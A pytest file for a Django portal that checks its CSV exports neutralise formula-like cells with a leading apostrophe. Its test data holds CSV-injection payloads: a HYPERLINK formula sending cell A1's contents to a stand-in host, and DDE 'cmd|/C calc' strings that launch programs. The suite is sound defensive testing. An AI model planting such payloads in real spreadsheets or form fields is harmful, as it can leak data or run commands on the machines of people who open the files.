"""CSV injection: every CSV the portal writes neutralises cells that a spreadsheet would run as a formula."""

import csv
import io

from django.urls import reverse

import pytest

from catalogue.csv_export import belgian_csv, neutralise
from catalogue.importing.spreadsheet import template_csv
from portal.workspace.figures import Row, Table, tables_csv
from tests.factories import OfferFactory

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_gets_a_leading_apostrophe_and_stays_readable(value):
    """Attack: text starting with =, +, -, @, tab or CR is written as text, the value itself kept after the quote."""
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-3,5", "-12", "-0.25", "12,50", "Zwemmen = plezier", "e-mail", None, 7, -3.5])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    """Happy path: a negative number, text with a formula sign inside, and non-text values are unchanged."""
    assert neutralise(value) == ("" if value is None else value)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


@pytest.mark.django_db
def test_open_data_csv_neutralises_what_a_partner_typed(client, partner_a):
    """Attack: offer titles and notes that start with formula signs come out of /open-data/offers.csv as text."""
    for formula in FORMULAS[:4]:
        OfferFactory(organisation=partner_a, title=formula, what_to_bring="=1+1")
    response = client.get(reverse("open_data_offers_csv"))
    rows = _cells(b"".join(response.streaming_content).decode("utf-8"))
    header, body = rows[0], rows[1:]
    titles = sorted(row[header.index("titel")] for row in body)
    assert titles == sorted("'" + formula for formula in FORMULAS[:4])
    assert {row[header.index("meebrengen")] for row in body} == {"'=1+1"}
    assert all(not cell.startswith(("=", "+", "@")) for row in body for cell in row)


def test_figures_csv_neutralises_labels():
    """Attack: a figure label (a neighbourhood or theme name) that starts with '=' is written as text."""
    text = tables_csv([Table("unmet_neighbourhood", "Unmet", [Row("=cmd|'/C calc'!A0", 7)])])
    assert _cells(text)[1] == ["Unmet", "'=cmd|'/C calc'!A0", "7", ""]


@pytest.mark.django_db
def test_the_template_csv_is_written_by_the_same_function():
    """Format: the template's CSV is the Belgian dialect of every other CSV (BOM, semicolons, CRLF)."""
    raw = template_csv()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    header, explanations = _cells(raw.decode("utf-8"))
    assert raw.decode("utf-8") == belgian_csv([explanations], header=header)
